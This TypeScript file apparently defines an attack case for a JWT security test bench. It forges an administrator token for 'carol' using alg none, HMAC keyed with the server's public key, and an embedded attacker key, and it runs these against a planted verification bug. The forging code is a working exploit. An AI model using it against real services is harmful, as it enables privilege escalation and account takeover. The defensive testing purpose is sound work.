import {
  createHmac,
  createPublicKey,
  generateKeyPairSync,
  type KeyObject,
  randomBytes,
  sign,
  type webcrypto,
} from 'node:crypto'
import { isJwt } from '#lib/core/mechanism-facts.ts'
import { type Attack, MALLORY, MALLORYS_NAME, type Scene } from '../attack.ts'
import { isAcceptedFromMallory } from '../evidence-events.ts'

/** A token of carol that Mallory made, with a header that names another algorithm or another key. */
export const algorithmConfusion: Attack = {
  id: 'algorithm-confusion',
  title: { en: 'Algorithm confusion', zh: '算法混淆' },
  wants: {
    en: 'Mallory has a token of her own. She changes it so that it states carol, an administrator, and chooses the algorithm by which it is verified.',
    zh: 'Mallory 有自己的令牌。她把其中的用户改为管理员 carol，并自行选择验证令牌所用的算法。',
  },
  reason: {
    en: 'The key determines its algorithm, and the header is only compared with it. A header with other members is refused before it is used.',
    zh: '算法由密钥决定，令牌头只用于比较。含有其他成员的令牌头在使用之前就被拒绝。',
  },
  remains: {
    en: 'A stolen signing key, or a shared secret that is short enough to find by trying.',
    zh: '签名密钥被窃，或共享密钥太短而可以被穷举。',
  },
  sources: [
    {
      title: 'RFC 8725 §3.1: perform algorithm verification',
      url: 'https://www.rfc-editor.org/rfc/rfc8725#section-3.1',
    },
    {
      title: 'RFC 8725 §2.1: weak signatures and insufficient signature validation',
      url: 'https://www.rfc-editor.org/rfc/rfc8725#section-2.1',
    },
    { title: 'CVE-2015-9235', url: 'https://nvd.nist.gov/vuln/detail/CVE-2015-9235' },
    { title: 'CVE-2018-0114 (embedded key)', url: 'https://nvd.nist.gov/vuln/detail/CVE-2018-0114' },
  ],
  code: { file: 'jwt.ts', name: 'verify' },
  needsBrowser: false,
  variants: [
    { id: 'none', title: { en: 'No signature: alg none', zh: '没有签名：alg 为 none' } },
    { id: 'hs-with-public-key', title: { en: 'HMAC with the public key', zh: '以公钥作为 HMAC 密钥' } },
    {
      id: 'embedded-key',
      title: { en: 'Mallory’s own key in the header', zh: '令牌头中嵌入 Mallory 自己的密钥' },
    },
  ],
  weak: {
    mutations: ['m19'],
    label: { en: 'planted bug: algorithm from the header', zh: '植入的缺陷：算法取自令牌头' },
  },
  mended: { label: { en: 'as shipped', zh: '交付的代码' } },
  inapplicable: (mechanism) =>
    isJwt(mechanism)
      ? null
      : {
          en: 'Its credential names no algorithm: the server uses the only one that it has.',
          zh: '其凭据不指定算法：服务器使用它唯一的算法。',
        },
  async run(scene) {
    const own = await scene.login('bob', MALLORY)
    const present = (token: string) => own.with(token).me('?slide=0')
    const [header, claims] = forgedParts(own.credential)
    // A server that accepts this one verifies no signature, whatever the algorithm.
    await present(`${header}.${claims}.${randomBytes(64).toString('base64url')}`)
    for (const token of await forgedTokens(scene, own.credential)) await present(token)
  },
  isBreach: (event) => isAcceptedFromMallory(event, 'carol'),
  isRefusal: (event, run) => isOfMallory(event) && event !== run.events.find(isOfMallory),
  isOtherWay: (_, run) => run.events.find(isOfMallory)?.type === 'request.verified',
  heldBy: ['bad_signature', 'malformed', 'unknown_key'],
}

type Event = Parameters<Attack['isBreach']>[0]

/** The response to a forged token. The first of them has the header of the server. */
const isOfMallory = (event: Event) =>
  (event.type === 'request.verified' || event.type === 'request.refused') &&
  event.act === 'me' &&
  event.client === MALLORYS_NAME

const encode = (part: object) => Buffer.from(JSON.stringify(part)).toString('base64url')
const decode = (part = ''): Record<string, unknown> => JSON.parse(Buffer.from(part, 'base64url').toString())

/** The header of this token, and its claims as those of carol. */
function forgedParts(token: string): readonly [header: string, claims: string] {
  const [header = '', claims] = token.split('.')
  return [header, encode({ ...decode(claims), sub: 'carol', roles: ['user', 'admin'] })]
}

async function forgedTokens({ bench, variant }: Scene, token: string): Promise<readonly string[]> {
  const [original, claims] = forgedParts(token)
  const header = decode(original)
  const content = (changed: object) => `${encode({ ...header, ...changed })}.${claims}`
  if (variant === 'none') {
    const unsigned = ['None', 'NONE', 'none'].map((alg) => `${content({ alg })}.`)
    // Some verifiers require three parts that are not empty.
    return [...unsigned, `${content({ alg: 'none' })}.${token.split('.')[2]}`]
  }
  if (variant === 'embedded-key') {
    const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
    const signed = content({ alg: 'ES256', jwk: publicKey.export({ format: 'jwk' }) })
    return [`${signed}.${sign('sha256', Buffer.from(signed), es256(privateKey)).toString('base64url')}`]
  }
  const signed = content({ alg: 'HS256' })
  return (await spellingsOfPublicKey(bench, header.kid)).map(
    (secret) => `${signed}.${createHmac('sha256', secret).update(signed).digest('base64url')}`,
  )
}

const es256 = (key: KeyObject) => ({ key, dsaEncoding: 'ieee-p1363' as const })

/** The text of a public key in the forms in which a verifier may have it; none if the key of the bench is a shared secret. */
async function spellingsOfPublicKey(bench: Scene['bench'], kid: unknown): Promise<readonly string[]> {
  const { body } = await bench.request('/.well-known/jwks.json')
  const key = (body.keys as (webcrypto.JsonWebKey & { kid: string })[]).find((each) => each.kid === kid)
  if (key === undefined) return []
  const pem = String(createPublicKey({ key, format: 'jwk' }).export({ type: 'spki', format: 'pem' }))
  return [pem.trimEnd(), pem]
}
